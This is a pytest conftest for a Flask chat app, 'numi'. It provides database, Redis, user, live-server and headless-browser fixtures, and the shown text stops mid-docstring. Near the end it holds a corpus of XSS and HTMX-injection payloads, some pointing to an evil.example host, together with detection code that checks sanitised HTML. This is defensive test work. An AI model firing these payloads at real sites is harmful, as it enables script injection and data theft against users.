"""Shared fixtures: apps on real databases, clients, users, and a live `numi serve`.

Fixtures (all real components, nothing of ours mocked):

- `database_url`: a fresh, empty database for one test. Parametrized over the backends:
  "sqlite" (a temp file) always; "postgres" (a private schema in the database named by
  NUMI_TEST_DATABASE_URL, dropped afterwards) when that variable is set. Outside CI the
  postgres case is skipped without the variable; with CI=true it fails instead.
- `postgres_module_url`: the same private schema for all tests of a module (module scope).
  `module_database_url`: a database for all tests of a module, once per backend (module
  scope), for modules whose live server should run on both.
- `make_app(**config)`: builds `create_app(config)` on `database_url` and applies the real
  migrations. `app` is `make_app()` (single-user mode); `client` its test client.
- `sqlite_app` / `sqlite_client`: the same on SQLite only, for tests where the backend
  does not matter (pages, rendering, security headers).
- `multi_app` (NUMI_AUTH=multi on every backend) with `users` ("a" and "b": id, username,
  password, bearer token) and `login(client, user)`; `client_a` / `client_b` are logged in.
- `redis_settings()` (module scope): NUMI_REDIS_URL and a unique NUMI_REDIS_PREFIX on the
  Redis at NUMI_TEST_REDIS_URL (default redis://127.0.0.1:6379/0); its keys are deleted
  afterwards. Without a reachable Redis the test is skipped, or fails with CI=true.
- `live_server`: the real `numi serve` in a subprocess on a free loopback port (module
  scope); `live_server_factory(**env)` starts more, e.g. in multi-user mode. The object has
  .url .port .data_dir .database_url .env .proc .restart() .kill() .cli(*args);
  `live_server_factory(serve_args=("--demo",))` passes options to `numi serve`.

Single-user mode needs the access token (DESIGN §7). Every app and live server here uses
the known `ACCESS_TOKEN` (from tests/turn_support.py), and the clients carry it:
- `app.test_client()` sends `Authorization: Bearer ACCESS_TOKEN` in single-user mode;
  `app.test_client(access_token=None)` is a client without it (a stranger).
- A LiveServer has .token, .headers (the Authorization header, {} in multi-user mode),
  .auth_url(path) (a one-time sign-in link, as `numi serve` prints), .sign_in(page, path) and
  .open_page(browser, **options) (a Playwright page signed in through such a link).
  `Api`, `Socket`, `SSE` (turn_support) and `upload` (context_support) send the token.
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request
from urllib.parse import quote
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from turn_support import ACCESS_TOKEN

from turn_support import free_port  # noqa: F401  (also used by tests that start servers)

ROOT = Path(__file__).resolve().parent.parent
IN_CI = os.environ.get("CI", "").lower() in ("1", "true", "yes")
POSTGRES_URL = os.environ.get("NUMI_TEST_DATABASE_URL", "")
REDIS_URL = os.environ.get("NUMI_TEST_REDIS_URL", "redis://127.0.0.1:6379/0")

BACKENDS = [
    pytest.param("sqlite", id="sqlite"),
    pytest.param("postgres", id="postgres", marks=pytest.mark.postgres),
]


# --- databases -----------------------------------------------------------------------------

# pytest-xdist runs the suite in several worker processes: each gets its own template
# databases, Redis prefixes and ports ("main" without xdist).
WORKER = os.environ.get("PYTEST_XDIST_WORKER", "main")


def _clean_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """Keep the developer's NUMI_* and provider variables out of the app under test (the
    suite's own NUMI_TEST_* variables stay: tests read them)."""
    for name in list(os.environ):
        if name.startswith(("NUMI_", "PROMPT_MAX_")) or name in (
            "OPENAI_API_KEY",
            "OPENAI_BASE_URL",
            "ANTHROPIC_API_KEY",
            "ANTHROPIC_BASE_URL",
        ):
            if not name.startswith("NUMI_TEST_"):
                monkeypatch.delenv(name)


def _require_postgres() -> None:
    if not POSTGRES_URL:
        message = "NUMI_TEST_DATABASE_URL is not set (e.g. postgresql+psycopg://postgres@127.0.0.1:5432/test)"
        if IN_CI:
            pytest.fail("PostgreSQL tests must run in CI: " + message)
        pytest.skip(message)


def _postgres_admin():
    """An AUTOCOMMIT engine on the test database, for CREATE/DROP DATABASE."""
    import sqlalchemy as sa

    return sa.create_engine(POSTGRES_URL, isolation_level="AUTOCOMMIT", poolclass=sa.pool.NullPool)


def _postgres_url(database: str) -> str:
    import sqlalchemy as sa

    return (
        sa.engine.make_url(POSTGRES_URL)
        .set(database=database)
        .render_as_string(hide_password=False)
    )


class PostgresDatabase:
    """A database of its own in the test cluster: empty, or a copy of a template."""

    def __init__(self, template: str | None = None, prefix: str = "t"):
        import sqlalchemy as sa

        self.name = f"numi_{prefix}_{WORKER}_{uuid.uuid4().hex[:12]}"
        self._engine = _postgres_admin()
        clause = f' TEMPLATE "{template}"' if template else ""
        with self._engine.connect() as conn:
            conn.execute(sa.text(f'CREATE DATABASE "{self.name}"{clause}'))
        self.url = _postgres_url(self.name)

    def drop(self) -> None:
        import sqlalchemy as sa

        with self._engine.connect() as conn:
            # FORCE: a live server of the test may still hold connections.
            conn.execute(sa.text(f'DROP DATABASE IF EXISTS "{self.name}" WITH (FORCE)'))
        self._engine.dispose()


class DatabaseTemplates:
    """One database per backend migrated to head once per worker, copied for each test:
    a file copy of SQLite, `CREATE DATABASE ... TEMPLATE` on PostgreSQL. Running the ten
    migrations for every test cost far more than the tests' own work. The migrations' own
    tests (tests/test_migrations.py, tests/test_migration_versions.py) and `numi serve` on
    `postgres_module_url` still take the real upgrade path from an empty database."""

    def __init__(self, directory: Path):
        self.directory = directory
        self._sqlite: Path | None = None
        self._postgres: PostgresDatabase | None = None

    def _migrate(self, url: str) -> None:
        app = _build_app(url, self.directory / "template-data", {})
        with app.app_context():
            from numi.extensions import db

            db.session.remove()
            db.engine.dispose()

    def sqlite_copy(self, target: Path) -> None:
        """Put a migrated SQLite database at `target`."""
        if self._sqlite is None:
            path = self.directory / "template.db"
            self._migrate(f"sqlite:///{path}")
            import sqlite3

            with sqlite3.connect(path) as connection:  # everything in the main file, no WAL
                connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
            self._sqlite = path
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(self._sqlite, target)

    def postgres_copy(self) -> PostgresDatabase:
        """A new PostgreSQL database migrated to head."""
        _require_postgres()
        if self._postgres is None:
            template = PostgresDatabase(prefix="template")
            try:
                self._migrate(template.url)
            except BaseException:
                template.drop()
                raise
            self._postgres = template
        return PostgresDatabase(template=self._postgres.name)

    def close(self) -> None:
        if self._postgres is not None:
            self._postgres.drop()


@pytest.fixture(scope="session")
def database_templates(tmp_path_factory):
    templates = DatabaseTemplates(tmp_path_factory.mktemp("templates"))
    yield templates
    templates.close()


def _database(kind: str, directory: Path, templates: DatabaseTemplates | None):
    """(url, cleanup) for a database of `kind`: migrated to head (a copy of the template),
    or empty when `templates` is None."""
    if kind == "sqlite":
        path = directory / "numi.db"
        if templates is not None:
            templates.sqlite_copy(path)
        return f"sqlite:///{path}", lambda: None
    _require_postgres()
    database = templates.postgres_copy() if templates is not None else PostgresDatabase()
    return database.url, database.drop


@pytest.fixture(params=BACKENDS)
def backend(request) -> str:
    """The database backend of this test: "sqlite" or "postgres"."""
    return request.param


@pytest.fixture
def database_url(backend, tmp_path, database_templates):
    """A database of this test's backend, migrated to head."""
    url, cleanup = _database(backend, tmp_path, database_templates)
    yield url
    cleanup()


@pytest.fixture
def empty_database_url(backend, tmp_path):
    """An empty database of this test's backend, for the migrations' own tests."""
    url, cleanup = _database(backend, tmp_path, None)
    yield url
    cleanup()


@pytest.fixture(scope="module")
def postgres_module_url(tmp_path_factory):
    """An empty PostgreSQL database shared by one module's servers (several processes on one
    database; the first `numi serve` migrates it); skipped without NUMI_TEST_DATABASE_URL,
    failed in CI."""
    url, cleanup = _database("postgres", tmp_path_factory.mktemp("pg"), None)
    yield url
    cleanup()


@pytest.fixture(scope="module", params=BACKENDS)
def module_database_url(request, tmp_path_factory, database_templates):
    """A migrated database shared by one module's servers, on each backend in turn: the
    module's tests run once per backend, so a module-scoped server starts once per backend.
    PostgreSQL as for `postgres_module_url` (skipped without NUMI_TEST_DATABASE_URL, failed
    in CI)."""
    url, cleanup = _database(request.param, tmp_path_factory.mktemp("db"), database_templates)
    yield url
    cleanup()


def _build_app(database_url: str, data_dir: Path, config: dict[str, Any]):
    """The app on `database_url`, upgraded as `numi serve` does (on a copy of the template
    that only checks the revision and seals keys)."""
    from numi import create_app
    from numi.database import upgrade

    base = {
        "TESTING": True,
        "NUMI_DATA_DIR": str(data_dir),
        "NUMI_DATABASE_URL": database_url,
        "NUMI_SECRET_KEY": "test-secret-key",
        "NUMI_AUTO_ENDPOINTS": False,
        "NUMI_ACCESS_TOKEN": ACCESS_TOKEN,
        "NUMI_TEST_FAST_PASSWORD_HASHES": True,
    }
    base.update(config)
    app = create_app(base)
    app.test_client_class = TokenClient
    upgrade(app)
    return app


class TokenClient(FlaskClient):
    """A test client that carries the access token in single-user mode, as a program
    using the API would; `app.test_client(access_token=None)` makes one without it."""

    def __init__(self, *args, access_token: str | None = ACCESS_TOKEN, **kwargs):
        super().__init__(*args, **kwargs)
        if access_token and self.application.config["NUMI_AUTH"] == "single":
            self.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {access_token}"


@pytest.fixture
def make_app(database_url, tmp_path, monkeypatch):
    """Factory: `make_app(**config)` -> an app on this test's database, migrated to head."""
    _clean_environment(monkeypatch)
    apps = []

    def factory(**config):
        app = _build_app(database_url, tmp_path / f"data{len(apps)}", config)
        apps.append(app)
        return app

    yield factory
    for app in apps:
        with app.app_context():
            from numi.extensions import db

            db.session.remove()
            db.engine.dispose()


@pytest.fixture
def app(make_app):
    """A single-user app on every backend."""
    return make_app()


@pytest.fixture
def client(app):
    return app.test_client()


@pytest.fixture
def sqlite_app(tmp_path, monkeypatch, database_templates):
    """A single-user app on SQLite only, for tests where the backend does not matter."""
    _clean_environment(monkeypatch)
    url, _ = _database("sqlite", tmp_path, database_templates)
    app = _build_app(url, tmp_path / "data", {})
    yield app
    with app.app_context():
        from numi.extensions import db

        db.session.remove()
        db.engine.dispose()


@pytest.fixture
def sqlite_client(sqlite_app):
    return sqlite_app.test_client()


# --- Redis ---------------------------------------------------------------------------------


def redis_or_skip():
    """A client of the test Redis; skips without one (fails in CI, like PostgreSQL)."""
    try:
        import redis

        client = redis.Redis.from_url(REDIS_URL, socket_connect_timeout=2)
        client.ping()
        return client
    except Exception as exc:  # not installed, not running
        message = f"Redis is not reachable at {REDIS_URL} ({exc}); .ci/run starts one"
        if IN_CI:
            pytest.fail("Redis tests must run in CI: " + message)
        pytest.skip(message)


@pytest.fixture(scope="session")
def redis_url() -> str:
    """The test Redis's URL (NUMI_TEST_REDIS_URL) once it answers; skips without one (fails
    in CI)."""
    redis_or_skip()
    return REDIS_URL


@pytest.fixture(scope="module")
def redis_settings():
    """`redis_settings()` -> the environment for a server on the test Redis, under a key
    prefix of its own; every key made under those prefixes is deleted after the module."""
    prefixes: list[str] = []
    client = None

    def settings() -> dict[str, str]:
        nonlocal client
        client = client or redis_or_skip()
        prefix = f"numitest:{uuid.uuid4().hex[:12]}:"
        prefixes.append(prefix)
        return {"NUMI_REDIS_URL": REDIS_URL, "NUMI_REDIS_PREFIX": prefix}

    yield settings
    for prefix in prefixes:
        keys = list(client.scan_iter(match=prefix + "*", count=1000))
        if keys:
            client.delete(*keys)


# --- users ---------------------------------------------------------------------------------


@dataclass
class TestUser:
    __test__ = False  # not a test class

    id: int
    username: str
    password: str
    token: str
    is_admin: bool = False
    session_version: int = 0

    @property
    def auth_header(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token}"}


def create_user(
    app, username: str, password: str = "correct horse battery", *, is_admin: bool = False
) -> TestUser:
    """Create a user with a password and an API token, as `numi user create` and `numi token
    create` do (the password hashed by the app's own hasher: the fast test profile)."""
    from numi.extensions import db
    from numi.models import ApiToken, User
    from numi.identity import hash_token, new_token
    from numi.passwords import hash_password

    with app.app_context():
        user = User(username=username, password_hash=hash_password(password), is_admin=is_admin)
        db.session.add(user)
        db.session.flush()
        token = new_token()
        db.session.add(ApiToken(user_id=user.id, name="test", token_hash=hash_token(token)))
        db.session.commit()
        return TestUser(user.id, username, password, token, is_admin, user.session_version)


@pytest.fixture
def multi_app(make_app):
    """A multi-user app (NUMI_AUTH=multi) on every backend; see `users`."""
    return make_app(NUMI_AUTH="multi")


@pytest.fixture
def users(multi_app) -> dict[str, TestUser]:
    """Two ordinary users of `multi_app`: "a" (alice) and "b" (bob), each with a token."""
    return {"a": create_user(multi_app, "alice"), "b": create_user(multi_app, "bob")}


def do_login(client, user: TestUser, *, next_url: str | None = None):
    """Log `client` in through the real login form; returns the response."""
    url = "/login" + (f"?next={next_url}" if next_url is not None else "")
    return client.post(url, data={"username": user.username, "password": user.password})


@pytest.fixture
def login():
    """`login(client, user)`: log in through the login form; asserts it worked."""

    def _login(client, user: TestUser, **kwargs):
        response = do_login(client, user, **kwargs)
        assert response.status_code == 302, response.get_data(as_text=True)
        return response

    return _login


def sign_in(client, user: TestUser) -> None:
    """Give `client` the session a login of `user` starts (numi/web/auth.py `_start_session`),
    signed by the app's own session interface, without going through the login form. For
    tests that need a signed-in client; the login form itself is tested in
    tests/web/test_logins.py and test_login_sessions.py through `login`."""
    with client.session_transaction() as session:
        session["user_id"] = user.id
        session["session_version"] = user.session_version
        session.permanent = True


@pytest.fixture
def client_a(multi_app, users):
    client = multi_app.test_client()
    sign_in(client, users["a"])
    return client


@pytest.fixture
def client_b(multi_app, users):
    client = multi_app.test_client()
    sign_in(client, users["b"])
    return client


@pytest.fixture
def admin_client(multi_app):
    """A client of `multi_app` signed in as an admin ("root")."""
    client = multi_app.test_client()
    sign_in(client, create_user(multi_app, "root", is_admin=True))
    return client


# --- live server ---------------------------------------------------------------------------


def numi_command() -> list[str]:
    """The `numi` console script of this interpreter's environment."""
    script = Path(sys.executable).with_name("numi")
    if script.exists():
        return [str(script)]
    return [
        sys.executable,
        "-c",
        "import sys; from numi.cli import main; sys.argv[0] = 'numi'; main()",
    ]


@dataclass
class LiveServer:
    """A real `numi serve` subprocess on 127.0.0.1."""

    data_dir: Path
    port: int
    env: dict[str, str]
    proc: subprocess.Popen | None = None
    log_path: Path = field(init=False)
    serve_args: tuple[str, ...] = ()  # extra `numi serve` options, e.g. ("--demo",)

    def __post_init__(self):
        self.log_path = self.data_dir.parent / f"server-{self.port}.log"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def database_url(self) -> str:
        return self.env.get("NUMI_DATABASE_URL") or f"sqlite:///{self.data_dir / 'numi.db'}"

    @property
    def token(self) -> str | None:
        """The access token of a single-user server (None in the other modes)."""
        if self.env.get("NUMI_AUTH", "single") != "single":
            return None
        if self.env.get("NUMI_ACCESS_TOKEN"):
            return self.env["NUMI_ACCESS_TOKEN"]
        stored = self.data_dir / "access_token"
        return stored.read_text().strip() if stored.exists() else None

    @property
    def headers(self) -> dict[str, str]:
        """Headers that authenticate a raw HTTP or WebSocket client ({} without a token)."""
        return {"Authorization": f"Bearer {self.token}"} if self.token else {}

    def auth_url(self, path: str = "/") -> str:
        """A one-time sign-in link to `path`, as `numi serve` prints one (a new code on each
        call): its page posts the code and the session cookie carries the token after."""
        if not self.token:
            return self.url + path
        from numi.sign_in_links import new_code

        return f"{self.url}/sign-in?code={new_code(self.token)}&next={quote(path, safe='/')}"

    def sign_in(self, page, path: str = "/"):
        """Open a one-time link to `path` in a Playwright page, as a person clicks the printed
        one, and wait until `path` has loaded (the link's page posts its code, then is
        redirected there). Returns the page."""
        if not self.token:
            page.goto(self.url + path)
            return page
        page.goto(self.auth_url(path), wait_until="commit")
        page.wait_for_url(lambda url: "/sign-in" not in url)
        return page

    def open_page(self, browser, **options):
        """A new Playwright page (own context) signed in through a one-time link to "/", so
        its session cookie carries the token; `options` go to browser.new_page()."""
        return self.sign_in(browser.new_page(**options))

    def start(self, timeout: float = 30.0) -> None:
        log = open(self.log_path, "ab")
        self.proc = subprocess.Popen(
            [*numi_command(), "serve", *self.serve_args],
            env=self.env,
            cwd=str(ROOT),
            stdout=log,
            stderr=subprocess.STDOUT,
        )
        log.close()
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"numi serve exited with {self.proc.returncode}:\n{self.log()}")
            try:
                with urllib.request.urlopen(self.url + "/healthz", timeout=1) as response:
                    if response.status == 200:
                        return
            except (urllib.error.URLError, ConnectionError, OSError):
                time.sleep(0.05)
        self.stop()
        raise RuntimeError(f"numi serve did not answer /healthz within {timeout}s:\n{self.log()}")

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(10)

    def kill(self) -> None:
        """SIGKILL: a crash, no clean shutdown."""
        if self.proc and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait(10)

    def restart(self) -> None:
        self.stop()
        self.start()

    def cli(
        self, *args: str, input: str | None = None, check: bool = True
    ) -> subprocess.CompletedProcess:
        """Run `numi ARGS` against this server's data directory and database."""
        result = subprocess.run(
            [*numi_command(), *args],
            env=self.env,
            cwd=str(ROOT),
            input=input,
            capture_output=True,
            text=True,
            timeout=60,
        )
        if check and result.returncode != 0:
            raise AssertionError(
                f"numi {' '.join(args)} failed ({result.returncode}):\n{result.stdout}\n{result.stderr}"
            )
        return result

    def log(self) -> str:
        try:
            return self.log_path.read_text(errors="replace")[-5000:]
        except FileNotFoundError:
            return ""


def server_environment(data_dir: Path, port: int, **env: str) -> dict[str, str]:
    base = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("NUMI_", "PROMPT_MAX_", "OPENAI_", "ANTHROPIC_"))
    }
    base.update(
        NUMI_DATA_DIR=str(data_dir),
        NUMI_HOST="127.0.0.1",
        NUMI_PORT=str(port),
        NUMI_AUTO_ENDPOINTS="0",
        NUMI_LOG_LEVEL="WARNING",
        NUMI_ACCESS_TOKEN=ACCESS_TOKEN,
        # SIGTERM gives running answers this long (10 s in production): a fixture stopping a
        # server with a stalled turn should not wait that out. Tests of the grace set it.
        NUMI_SHUTDOWN_GRACE_SECONDS="1",
        PYTHONUNBUFFERED="1",
    )
    base.update({k: str(v) for k, v in env.items()})
    return base


@pytest.fixture(scope="module")
def live_server_factory(tmp_path_factory, database_templates):
    """`live_server_factory(**env)` -> a started LiveServer with extra environment. Its
    SQLite database (when `env` names no NUMI_DATABASE_URL) starts as a copy of the migrated
    template; `fresh=True` leaves the data directory empty, so `numi serve` creates and
    migrates everything itself. Fixtures stop their servers when done; any still running
    stop with the module."""
    servers: list[LiveServer] = []

    def start(*, serve_args: tuple[str, ...] = (), fresh: bool = False, **env) -> LiveServer:
        port = free_port()
        data_dir = tmp_path_factory.mktemp("live") / "data"
        if not fresh and "NUMI_DATABASE_URL" not in env:
            database_templates.sqlite_copy(data_dir / "numi.db")
        # Live servers hash at the test cost (`numi_cli` runs as a newcomer would, without it).
        env = {"NUMI_TEST_FAST_PASSWORD_HASHES": "1", **env}
        server = LiveServer(
            data_dir, port, server_environment(data_dir, port, **env), serve_args=serve_args
        )
        servers.append(server)
        server.start()
        return server

    yield start
    for server in servers:
        server.stop()


@pytest.fixture
def numi_cli(tmp_path):
    """`numi_cli(*args, **env)`: run the `numi` command on this test's own data directory
    (a live server's environment, plus `env`); returns (CompletedProcess, data_dir)."""
    data_dir = tmp_path / "cli-data"

    def run(*args: str, **env: str):
        environment = server_environment(data_dir, free_port(), **env)
        result = subprocess.run(
            [*numi_command(), *args],
            env=environment,
            cwd=str(ROOT),
            capture_output=True,
            text=True,
            timeout=120,
        )
        return result, data_dir

    return run


@pytest.fixture(scope="module")
def live_server(live_server_factory):
    """A single-user `numi serve` on SQLite, shared by the tests of one module."""
    server = live_server_factory()
    yield server
    server.stop()


# --- small helpers shared by many tests ----------------------------------------------------


def origin_of(url: str) -> str:
    return re.match(r"^[a-z]+://[^/]+", url).group(0)


def chromium_path() -> str | None:
    return shutil.which("chromium") or (
        "/usr/bin/chromium" if os.path.exists("/usr/bin/chromium") else None
    )


# --- hostile input -------------------------------------------------------------------------

# Inputs an attacker (or a model talked into it) may put in a message, a title, an endpoint
# or model name, or a file name. Each must come out as inert text or safe markup.
HOSTILE_INPUTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',  # unclosed
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "![img](javascript:alert(1))",
    '![x](https://evil.example/leak?q=secret "t\\" onerror=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover="alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="mailto:x@example.org" onclick="alert(1)">mail</a>',
    '<div hx-get="/api/sessions" hx-trigger="load" hx-swap-oob="true">x</div>',
    '<div data-hx-post="/chats" data-hx-trigger="load">x</div>',
    '<div hx-ext="ws" ws-connect="/ws/x" ws-send>x</div>',
    '<div id="chat-list" hx-swap-oob="innerHTML">pwned</div>',
    '<button hx-post="/chats" hx-trigger="load">x</button>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "```<img src=x onerror=alert(1)>\ncode\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "report<script>alert(1)</script>.pdf",
]
assert len(HOSTILE_INPUTS) >= 30

VOID_ELEMENTS = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
}
DANGEROUS_ELEMENTS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "style",
    "form",
    "button",
    "input",
    "textarea",
    "select",
    "meta",
    "base",
    "link",
    "img",
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "details",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "poster",
    "xlink:href",
    "srcset",
}


def _attribute_problem(tag: str, name: str, value: str | None) -> str | None:
    name = name.lower()
    if name.startswith(("on", "hx-", "data-hx-", "ws-")) or name in ("style", "id", "hx-swap-oob"):
        return f"<{tag} {name}>"
    if name in URL_ATTRIBUTES and value is not None:
        # As browsers parse URLs (WHATWG): leading/trailing controls and spaces are trimmed,
        # tabs and newlines removed anywhere; then a scheme is letters, digits, + - . and ':'.
        url = re.sub(
            r"[\t\n\r]",
            "",
            value.strip(
                "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f \t\n\r"
            ),
        ).lower()
        scheme = re.match(r"^([a-z][a-z0-9+.-]*):", url)
        if scheme and scheme.group(0) not in SAFE_SCHEMES:
            return f"<{tag} {name}={value!r}>"
    return None


def html_problems(html: str) -> list[str]:
    """Executable or HTMX-active things in a fragment made from untrusted input."""
    from html.parser import HTMLParser

    problems: list[str] = []

    class Checker(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in DANGEROUS_ELEMENTS:
                problems.append(f"<{tag}>")
            for name, value in attrs:
                problem = _attribute_problem(tag, name, value)
                if problem:
                    problems.append(problem)

        handle_startendtag = handle_starttag

    checker = Checker(convert_charrefs=True)
    checker.feed(html)
    checker.close()
    return problems


def _is_copy_button(tag: str, attrs) -> bool:
    """The Copy button of a code block (partials/_md_blocks.html): our template puts it in
    message bodies; the sanitiser allows no <button> and no `type`, so markdown cannot."""
    values = dict(attrs)
    return (
        tag == "button"
        and set(values) == {"type", "class", "aria-label"}
        and values["type"] == "button"
        and values["class"] == "copy-code"
    )


def page_outline(html: str) -> tuple[list, list[str]]:
    """Split a page into (its element structure outside hx-disable containers, the HTML
    problems inside them). Two renders of one template with different untrusted text must
    have the same outline: untrusted text may never add an element or an attribute."""
    from html.parser import HTMLParser

    outline: list = []
    inside_problems: list[str] = []

    class Outliner(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.stack: list[tuple[str, bool]] = []  # (tag, inside an hx-disable container)

        def _inside(self) -> bool:
            return bool(self.stack) and self.stack[-1][1]

        def handle_starttag(self, tag, attrs):
            inside = self._inside()
            if inside:
                if tag in DANGEROUS_ELEMENTS and not _is_copy_button(tag, attrs):
                    inside_problems.append(f"<{tag}>")
                for name, value in attrs:
                    problem = _attribute_problem(tag, name, value)
                    if problem:
                        inside_problems.append(problem)
            else:
                outline.append((tag, tuple(sorted(name for name, _ in attrs))))
            if tag not in VOID_ELEMENTS:
                disabled = inside or any(name == "hx-disable" for name, _ in attrs)
                self.stack.append((tag, disabled))

        def handle_startendtag(self, tag, attrs):
            self.handle_starttag(tag, attrs)
            if tag not in VOID_ELEMENTS and self.stack and self.stack[-1][0] == tag:
                self.stack.pop()

        def handle_endtag(self, tag):
            for index in range(len(self.stack) - 1, -1, -1):
                if self.stack[index][0] == tag:
                    del self.stack[index:]
                    return

    parser = Outliner()
    parser.feed(html)
    parser.close()
    return outline, inside_problems


@pytest.fixture(params=range(len(HOSTILE_INPUTS)), ids=lambda i: f"hostile{i:02d}")
def hostile(request) -> str:
    """One hostile input of the corpus (the test runs once per input)."""
    return HOSTILE_INPUTS[request.param]


@pytest.fixture(scope="session")
def root_conftest():
    """This module, for test modules that use its helpers (`numi_command`, `_build_app`,
    `_database`, `server_environment`): they cannot `from conftest import …`, since under
    xdist another folder's conftest may be the module named `conftest` in that worker."""
    return _THIS


# This module as it was imported (the name `conftest` may later belong to another folder's).
_THIS = sys.modules[__name__]


@pytest.fixture(scope="session")
def xss():
    """The hostile-input corpus and the HTML checks, for tests in any directory:
    `xss.inputs`, `xss.html_problems(html)`, `xss.page_outline(html)`."""
    from types import SimpleNamespace

    return SimpleNamespace(
        inputs=HOSTILE_INPUTS, html_problems=html_problems, page_outline=page_outline
    )


# --- the scripted provider and a browser, shared by every folder --------------------------


@pytest.fixture(scope="session")
def provider():
    """One scripted provider server (all three wire protocols) for the whole run."""
    from numi.testing import ScriptedProvider

    with ScriptedProvider() as server:
        yield server


@pytest.fixture
def scripted(provider):
    """The scripted provider, emptied for this test; stalled streams are released after."""
    provider.reset()
    yield provider
    provider.release()


CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


@pytest.fixture(scope="module")
def browser():
    """Headless Debian Chromium driven by Playwright; missing Chromium skips, or fails in CI."""
    path = chromium_path()
    if path is None:
        if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
            pytest.fail("Chromium is missing in CI: install Debian's chromium package")
        pytest.skip("Chromium is not installed (apt-get install -y chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=path, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


@pytest.fixture
def launch_profile(browser):
    """`launch_profile(user_data_dir, **options)`: Chromium on a profile directory of its own
    (its History and Cookies databases on disk, as a person's browser keeps them), with the
    `browser` fixture's executable and arguments; `options` go to
    launch_persistent_context. Closed after the test if the test has not closed it."""
    contexts = []

    def launch(user_data_dir, **options):
        context = browser.browser_type.launch_persistent_context(
            str(user_data_dir), executable_path=chromium_path(), args=CHROMIUM_ARGS, **options
        )
        contexts.append(context)
        return context

    yield launch
    for context in contexts:
        try:
            context.close()
        except Exception:
            pass  # closed by the test already


@pytest.fixture
def browser_page(browser):
    """`browser_page(server, **options)`: a new Chromium page (own context) that carries
    `server`'s access token, with every console error and page error collected in
    `page.console_errors` (none are filtered out); closed after the test."""
    pages = []

    def open_page(server, **options):
        page = server.open_page(browser, **options)
        errors: list[str] = []
        page.on(
            "console",
            lambda message: errors.append(message.text) if message.type == "error" else None,
        )
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.console_errors = errors
        pages.append(page)
        return page

    yield open_page
    for page in pages:
        page.context.close()


@pytest.fixture
def shot(tmp_path):
    """`shot(page_or_locator, name, **options)`: a screenshot saved as `<tmp_path>/<name>.png`
